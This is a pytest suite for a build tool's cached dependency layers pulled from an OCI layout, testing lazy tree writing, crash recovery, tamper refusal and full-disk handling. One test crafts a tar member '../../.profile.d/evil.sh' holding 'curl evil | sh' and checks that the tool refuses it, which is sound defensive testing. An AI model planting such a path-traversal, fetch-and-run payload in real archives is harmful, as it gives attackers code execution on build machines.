"""Part-only layers (layer_artifact.py): a layer pulled or imported from another cache
is kept as its verified part, index and stub, and its tree is written only when a
step needs it (``ensure_tree``). Quick tests on a small dependency layer carried
through an OCI layout; the fresh-runner build itself is in
test_registry_fresh_runner.py.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from slugbuild import records
from slugbuild.cache import FILE_INDEX, PART_ONLY, TREE, Cache, Layer
from slugbuild.layer_artifact import (
    STUB,
    Fetched,
    LayoutStore,
    ensure_tree,
    fetch_artifact,
    is_layer_dir,
    make_artifact,
    materialise,
    namespace,
    part_listing,
    part_problems,
    push_artifact,
)
from slugbuild.pack import LayerPart, prepare_layer_part
from slugbuild.platform_info import current as current_platform
from slugbuild.stack_compat import STACK_RECORD, _layer_elf_files

SPACE = namespace(current_platform().key)
KEY = "c" * 64
NAME = KEY[:24]
SITE = "lib/python3.12/site-packages"
FILES = {
    f"{SITE}/demo/__init__.py": b"from .core import answer\n",
    f"{SITE}/demo/core.py": b"answer = 42\n",
    f"{SITE}/demo-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
    f"{SITE}/demo-1.0.dist-info/entry_points.txt": b"[console_scripts]\ndemo = demo.core:main\n",
    "bin/demo": b"#!/bin/sh\nexec python -m demo\n",
}


def _record(files: dict[str, bytes]) -> bytes:
    lines = []
    for rel, data in sorted(files.items()):
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        lines.append(f"{os.path.relpath(rel, SITE)},sha256={digest},{len(data)}")
    lines.append("demo-1.0.dist-info/RECORD,,")
    return ("\n".join(lines) + "\n").encode()


def _source_layer(root: Path) -> Layer:
    """A published dependency layer with its kept part and ELF record, as a runner
    that built it has them."""
    cache = Cache(root)
    with cache.lock("layers", NAME), cache.new_layer("layers", NAME, KEY, {"format": 1},
                                                     records.layer_problems, {}) as tree:
        for rel, data in {**FILES, f"{SITE}/demo-1.0.dist-info/RECORD": _record(FILES)}.items():
            (tree / rel).parent.mkdir(parents=True, exist_ok=True)
            (tree / rel).write_bytes(data)
        (tree / "bin/demo").chmod(0o755)
        (tree / "bin/demo-again").symlink_to("demo")
        (tree / "share/empty").mkdir(parents=True)
    layer = cache.lookup("layers", NAME, KEY)
    assert layer is not None
    prepare_layer_part(LayerPart(".heroku/python", layer.tree, layer.packed_parts))
    _layer_elf_files(layer.tree, layer.packed_parts / STACK_RECORD)
    return layer


def _fetched(source: Layer, tmp_path: Path) -> Fetched:
    """``source``'s artifact, pushed to an OCI layout and fetched back as a puller does."""
    artifact = make_artifact(source, SPACE)
    assert artifact is not None
    store = LayoutStore(tmp_path / "layout", create=True)
    push_artifact(store, artifact)
    fetched = fetch_artifact(store, SPACE, "layers", KEY)
    assert fetched is not None
    return fetched


@pytest.fixture
def pulled(tmp_path: Path) -> tuple[Cache, Layer, Layer]:
    """(the puller's cache, its part-only layer, the source layer)."""
    source = _source_layer(tmp_path / "source")
    fetched = _fetched(source, tmp_path)
    cache = Cache(tmp_path / "puller")
    with cache.lock("layers", NAME):
        layer = materialise(cache, fetched, records.layer_problems, part_only=True)
    return cache, layer, source


def test_a_pulled_layer_is_part_only_and_its_tree_is_written_on_demand(pulled) -> None:
    cache, layer, source = pulled
    assert layer.lazy and not layer.tree.exists() and is_layer_dir(layer.path)
    assert not (layer.path / FILE_INDEX).exists() and part_problems(layer) == []
    stub = layer.path / STUB
    stubbed = sorted(str(p.relative_to(stub)) for p in stub.rglob("*") if not p.is_dir())
    assert stubbed == sorted([f"{SITE}/demo/__init__.py", f"{SITE}/demo-1.0.dist-info/METADATA",
                              f"{SITE}/demo-1.0.dist-info/RECORD",
                              f"{SITE}/demo-1.0.dist-info/entry_points.txt", "bin/demo",
                              "bin/demo-again"])
    # Exported again as it is, it is the artifact it came from, byte for byte.
    again, original = make_artifact(layer, SPACE), make_artifact(source, SPACE)
    assert again is not None and original is not None and again.manifest == original.manifest
    # A view's listing: links into the stub for what it holds, else to the tree's paths.
    listing = part_listing(layer)
    assert listing.target(f"{SITE}/demo") == str(stub / SITE / "demo")
    assert listing.target(f"{SITE}/demo/core.py") == str(layer.tree / SITE / "demo/core.py")
    assert ("empty", True) in listing.children("share")
    assert cache.lookup("layers", NAME, KEY, lazy=True) == layer

    written = ensure_tree(cache, layer)
    assert not written.lazy and (written.tree / "bin/demo").read_bytes() == FILES["bin/demo"]
    assert os.readlink(written.tree / "bin/demo-again") == "demo"
    assert (written.tree / "share/empty").is_dir() and os.access(written.tree / "bin/demo",
                                                                 os.X_OK)
    assert cache.verify(written, records.layer_problems) == []
    # Complete now: a caller that does not ask for part-only layers finds it as any other.
    found = cache.lookup("layers", NAME, KEY)
    assert found is not None and found.tree.is_dir() and not found.lazy


_CRASH = """
import os, sys
from slugbuild.cache import Cache
from slugbuild.layer_artifact import ensure_tree
cache = Cache(sys.argv[1])
layer = cache.lookup("layers", sys.argv[2], sys.argv[3], lazy=True)
os.rename = lambda *args: os._exit(9)  # killed with every file written, before the rename
ensure_tree(cache, layer)
"""


def test_a_crash_while_the_tree_is_written_leaves_it_part_only(pulled) -> None:
    cache, layer, _ = pulled
    crashed = subprocess.run([sys.executable, "-c", _CRASH, str(cache.root), NAME, KEY],
                             check=False)
    assert crashed.returncode == 9
    assert not layer.tree.exists() and (layer.path / PART_ONLY).is_file()
    left = [entry.name for entry in (cache.root / "tmp").iterdir() if ".tree-" in entry.name]
    assert left  # the dead process's scratch, with the tree it was writing
    healed = Cache(cache.root)  # a next build: the dead owner's scratch goes
    assert not [entry for entry in (cache.root / "tmp").iterdir() if ".tree-" in entry.name]
    found = healed.lookup("layers", NAME, KEY)
    assert found is not None and (found.tree / f"{SITE}/demo/core.py").read_bytes() == \
        FILES[f"{SITE}/demo/core.py"]
    assert healed.verify(found, records.layer_problems) == []


def _tamper_part(layer: Layer) -> None:
    [gz] = layer.packed_parts.glob("*.gz")
    data = bytearray(gz.read_bytes())
    data[len(data) // 2] ^= 0x55
    gz.write_bytes(bytes(data))


def _tamper_stub(layer: Layer) -> None:
    (layer.path / STUB / SITE / "demo-1.0.dist-info/METADATA").write_bytes(
        b"Metadata-Version: 2.1\nName: demo\nVersion: 6.6.6\n")


def _tamper_stub_list(layer: Layer) -> None:
    """The record says METADATA is not stubbed, and the stub lacks it: a package
    would vanish from slug.json's list."""
    record = json.loads((layer.path / PART_ONLY).read_text())
    record["stub"].remove(f"{SITE}/demo-1.0.dist-info/METADATA")
    (layer.path / PART_ONLY).write_text(json.dumps(record))
    (layer.path / STUB / SITE / "demo-1.0.dist-info/METADATA").unlink()


def _tamper_index(layer: Layer) -> None:
    record = json.loads((layer.path / PART_ONLY).read_text())
    record["index"]["files"][f"{SITE}/demo/core.py"][2] = "0" * 64
    (layer.path / PART_ONLY).write_text(json.dumps(record))


@pytest.mark.parametrize("tamper", [_tamper_part, _tamper_stub, _tamper_stub_list,
                                    _tamper_index],
                         ids=["part", "stub", "stub-list", "index"])
def test_a_tampered_part_only_layer_is_refused(pulled, tamper) -> None:
    """Whatever of a part-only layer is changed (its part, the stub slug.json's package
    list is read from, its index), it is never used: it is discarded, and the build
    makes or pulls it again."""
    cache, layer, _ = pulled
    tamper(layer)
    found, problems = cache.lookup_verified("layers", NAME, KEY, records.layer_problems,
                                            lazy=True)
    if found is not None:  # the index's change shows once the tree is checked against it
        assert tamper is _tamper_index and problems == []
        assert cache.lookup("layers", NAME, KEY) is None
    else:
        assert problems
        cache.discard(layer)
    assert not layer.path.exists() and not (layer.path.parent / NAME / TREE).exists()



@pytest.mark.parametrize("extra", [{}, {"../../.profile.d/evil.sh": b"curl evil | sh\n"}],
                         ids=["backdoored", "outside"])
def test_a_part_unlike_its_index_is_never_kept_part_only(tmp_path: Path,
                                                         extra: dict[str, bytes]) -> None:
    """A build's pull checks every member of the part against the index before keeping
    it part-only: a file with other bytes than listed (not one slug.json reads), or a
    member outside the layer, and nothing is kept for slugs."""
    import gzip
    import io
    import tarfile

    from slugbuild.layer_artifact import ArtifactInvalid, Fetched

    fetched = _fetched(_source_layer(tmp_path / "source"), tmp_path)
    raw = io.BytesIO()
    sent = {**FILES, f"{SITE}/demo-1.0.dist-info/RECORD": _record(FILES),
            f"{SITE}/demo/core.py": b"answer = 0x2a\n", **extra}
    with tarfile.open(fileobj=raw, mode="w") as tar:
        for rel, data in sent.items():
            info = tarfile.TarInfo(f"./.heroku/python/{rel}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        link = tarfile.TarInfo("./.heroku/python/bin/demo-again")
        link.type, link.linkname = tarfile.SYMTYPE, "demo"
        tar.addfile(link)
    crafted = Fetched(fetched.config, fetched.index, gzip.compress(raw.getvalue()))
    cache = Cache(tmp_path / "puller")
    with pytest.raises(ArtifactInvalid), cache.lock("layers", NAME):
        materialise(cache, crafted, records.layer_problems, part_only=True)
    assert cache.lookup("layers", NAME, KEY, lazy=True) is None


def _replace_by_publish(cache: Cache, layer: Layer) -> Path:
    """What Cache.publish does to the layer's name: the old directory moved aside, a new
    one renamed in. Returns the old directory's new place."""
    fresh = cache.scratch_dir("fresh") / "layer"
    fresh.mkdir()
    (fresh / "manifest.json").write_text("{}")
    aside = cache.scratch_dir("aside") / "layer"
    os.rename(layer.path, aside)
    os.rename(fresh, layer.path)
    return aside


def test_a_tree_is_never_written_into_a_layer_published_meanwhile(pulled, monkeypatch) -> None:
    import slugbuild.layer_artifact as layer_artifact

    cache, layer, _ = pulled
    extract = layer_artifact._extract
    moved: list[Path] = []

    def extract_then_republish(*args: object) -> None:
        extract(*args)  # type: ignore[arg-type]
        moved.append(_replace_by_publish(cache, layer))

    monkeypatch.setattr(layer_artifact, "_extract", extract_then_republish)
    with pytest.raises(layer_artifact.ArtifactInvalid, match="replaced"):
        ensure_tree(cache, layer)
    assert sorted(os.listdir(layer.path)) == ["manifest.json"]  # the new layer: untouched
    assert (moved[0] / TREE).is_dir() and (moved[0] / FILE_INDEX).is_file()


def test_a_layer_replaced_before_its_tree_is_written_is_refused(pulled) -> None:
    import slugbuild.layer_artifact as layer_artifact

    cache, layer, _ = pulled
    _replace_by_publish(cache, layer)
    with pytest.raises(layer_artifact.ArtifactInvalid, match="replaced"):
        ensure_tree(cache, layer)
    assert sorted(os.listdir(layer.path)) == ["manifest.json"]


def _place_by_view(cache: Cache, layer: Layer) -> None:
    """BuildContext.place_layer for ``layer`` shown by a view, its background work
    waited for (the fields it reads, not a whole build)."""
    from concurrent.futures import ThreadPoolExecutor
    from types import SimpleNamespace

    from slugbuild.cache import Restored
    from slugbuild.context import BuildContext

    with ThreadPoolExecutor(max_workers=2) as background:
        build = SimpleNamespace(placed_layers=[], part_sizes=[], background=background,
                                cache=cache, layout="herokuish", epoch=None,
                                layer_host_paths={})
        BuildContext.place_layer(build, layer, ".heroku/python",  # type: ignore[arg-type]
                                 Restored(view=True))
    assert [future.result() for future in build.part_sizes][0] > 0


def test_a_part_only_layer_without_an_elf_record_never_keeps_an_empty_one(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Pulled without a stack record (or with the empty one a missing tree gave), its
    ELF facts are not read from the tree it does not have: nothing is kept, the record
    is not shared on, and reading them once the tree is written keeps the real ones."""
    from slugbuild.stack_compat import keep_stack_record, stack_record_kept

    source = _source_layer(tmp_path / "source")
    empty = {"format": 1, "elves": [], "present": []}  # what a missing tree read as
    (source.packed_parts / STACK_RECORD).write_text(json.dumps(empty))
    fetched = _fetched(source, tmp_path)  # its tree is read again: the real record
    assert "bin/demo-again" in fetched.config["part"]["stack"]["present"]
    del fetched.config["part"]["stack"]  # as from an exporter that had none
    cache = Cache(tmp_path / "puller")
    with cache.lock("layers", NAME):
        layer = materialise(cache, fetched, records.layer_problems, part_only=True)
    record = layer.packed_parts / STACK_RECORD
    assert layer.lazy and not layer.tree.exists() and not stack_record_kept(record)
    from slugbuild import context

    read: list[Path] = []
    monkeypatch.setattr(context, "keep_stack_record", lambda tree, kept: read.append(tree))
    _place_by_view(cache, layer)  # its part prepared in the background, no ELF read
    assert read == [] and not record.exists() and not layer.tree.exists()
    with pytest.raises(FileNotFoundError):
        keep_stack_record(layer.tree, record)
    assert not record.exists()
    record.write_text(json.dumps(empty))  # an older build's: not taken as kept
    assert not stack_record_kept(record)
    written = ensure_tree(cache, layer)
    _, present = _layer_elf_files(written.tree, record)
    assert "bin/demo" in present and stack_record_kept(record)


def test_a_part_not_written_publishes_no_part_only_layer(tmp_path: Path,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    """The kept part is a part-only layer's only copy of its files: a disk that refuses
    it fails the pull (the machine's error, for the caller), and no layer without a
    part is published nor any scratch left."""
    import errno

    from slugbuild import layer_artifact

    fetched = _fetched(_source_layer(tmp_path / "source"), tmp_path)
    real_write = layer_artifact.write_bytes_atomic

    def full_disk(path: Path, data: bytes) -> None:
        if path.name.endswith(".gz"):
            raise OSError(errno.ENOSPC, "No space left on device", str(path))
        real_write(path, data)

    monkeypatch.setattr(layer_artifact, "write_bytes_atomic", full_disk)
    cache = Cache(tmp_path / "puller")
    with pytest.raises(OSError) as raised, cache.lock("layers", NAME):
        materialise(cache, fetched, records.layer_problems, part_only=True)
    assert raised.value.errno == errno.ENOSPC
    assert cache.lookup("layers", NAME, KEY, lazy=True) is None
    assert not (cache.root / "layers" / NAME).exists()
    assert not [entry for entry in (cache.root / "tmp").iterdir() if NAME in entry.name]


def _viewed_build(layer: Layer, limit: int = 0, failed: bool = False) -> Any:
    """The few fields of a build layer_checks reads, for ``layer`` shown by a view
    (its part's preparation failed if ``failed``)."""
    from concurrent.futures import Future
    from types import SimpleNamespace

    from slugbuild.cache import Restored
    from slugbuild.context import PlacedLayer
    from slugbuild.slug_size import SizeLimit

    future: Future[int] = Future()
    if failed:
        future.set_exception(OSError("its part could not be prepared"))
    else:
        future.set_result(0)
    return SimpleNamespace(placed_layers=[PlacedLayer(layer, ".heroku/python",
                                                      Restored(view=True))],
                           part_sizes=[future], size_cap=SizeLimit(limit, True, "test"))


def test_a_viewed_part_only_layers_symlinks_are_checked(pulled,
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    """It has no files.json: its symlinks are read from its part-only record, so they
    are held to the slug's link rule as a layer with its tree's are."""
    from slugbuild import layer_checks

    cache, layer, _ = pulled
    checked: list[tuple[str, str]] = []
    monkeypatch.setattr(layer_checks, "link_problem",
                        lambda path, target: checked.append((path, target)))
    layer_checks.refuse_viewed_links_leaving_slug(_viewed_build(layer))
    assert checked == [(".heroku/python/bin/demo-again", "demo")]
    checked.clear()
    written = ensure_tree(cache, layer)  # then from its files.json
    layer_checks.refuse_viewed_links_leaving_slug(_viewed_build(written))
    assert checked == [(".heroku/python/bin/demo-again", "demo")]
    checked.clear()
    (written.path / FILE_INDEX).unlink()  # and without one, from its tree
    layer_checks.refuse_viewed_links_leaving_slug(_viewed_build(written))
    assert checked == [(".heroku/python/bin/demo-again", "demo")]


def test_a_part_only_layer_whose_part_failed_counts_toward_the_size_limit(pulled) -> None:
    """Its part's preparation failed: it counts as its kept part's size (what it adds
    to the slug), never as 0, so a slug over the limit fails before collectstatic."""
    from slugbuild import errors
    from slugbuild.layer_checks import check_layers_size

    _, layer, _ = pulled
    [kept] = layer.packed_parts.glob("*.gz")
    size = kept.stat().st_size
    check_layers_size(_viewed_build(layer, limit=size, failed=True))
    with pytest.raises(errors.SlugbuildError) as raised:
        check_layers_size(_viewed_build(layer, limit=size - 1, failed=True))
    assert raised.value.code == "slug-too-large"


def _full_after(count: int, real: Any) -> Any:
    """``real`` (a file writer) failing with ENOSPC from its ``count``-th call on."""
    import errno
    calls = [0]

    def writer(*args: Any) -> Any:
        calls[0] += 1
        if calls[0] >= count:
            raise OSError(errno.ENOSPC, "No space left on device", str(args[0]))
        return real(*args)

    return writer


def test_a_full_disk_while_the_tree_is_written_ends_in_disk_full_and_keeps_the_layer(
        pulled, monkeypatch) -> None:
    """ENOSPC halfway through the tree is the disk's fault, not the layer's: the build
    ends with the catalogue's disk-full error, the layer is not discarded and stays
    part-only (no half tree, no files.json), and is written once there is room (review
    finding 9; it used to be discarded and reported as a layer that kept changing)."""
    import slugbuild.layer_artifact as layer_artifact
    from slugbuild.errors import SlugbuildError

    cache, layer, _ = pulled
    monkeypatch.setattr(layer_artifact, "_write_file",
                        _full_after(3, layer_artifact._write_file))
    for attempt in (lambda: ensure_tree(cache, layer),
                    lambda: cache.lookup("layers", NAME, KEY)):  # lookup: tree_or_none
        with pytest.raises(SlugbuildError) as failed:
            attempt()
        assert failed.value.code == "disk-full"
        assert "No space left" in failed.value.found
        assert not layer.tree.exists() and not (layer.path / FILE_INDEX).exists()
        assert (layer.path / PART_ONLY).is_file() and part_problems(layer) == []
        assert not [e for e in (cache.root / "tmp").iterdir() if ".tree-" in e.name]
    monkeypatch.undo()
    written = ensure_tree(cache, layer)
    assert cache.verify(written, records.layer_problems) == []


def test_a_full_disk_at_publish_keeps_the_complete_layer_it_was_replacing(
        tmp_path: Path, monkeypatch) -> None:
    """Publishing over a layer of the same name moves the old one aside first: when
    the new one's rename then fails (ENOSPC), the old, complete layer is put back
    (it used to be left in scratch, the name empty)."""
    import errno

    source = _source_layer(tmp_path / "source")
    cache = Cache(tmp_path / "source")
    scratch = cache.scratch_dir("layers-new") / "layer"
    scratch.mkdir()
    real_rename = os.rename

    def rename(src: Any, dst: Any) -> None:
        if Path(src) == scratch:
            raise OSError(errno.ENOSPC, "No space left on device", str(dst))
        real_rename(src, dst)

    monkeypatch.setattr(os, "rename", rename)
    with pytest.raises(OSError):
        cache.publish(scratch, "layers", NAME, KEY)
    monkeypatch.undo()
    found = cache.lookup("layers", NAME, KEY)
    assert found is not None and found.path == source.path
    assert cache.verify(found, records.layer_problems) == []
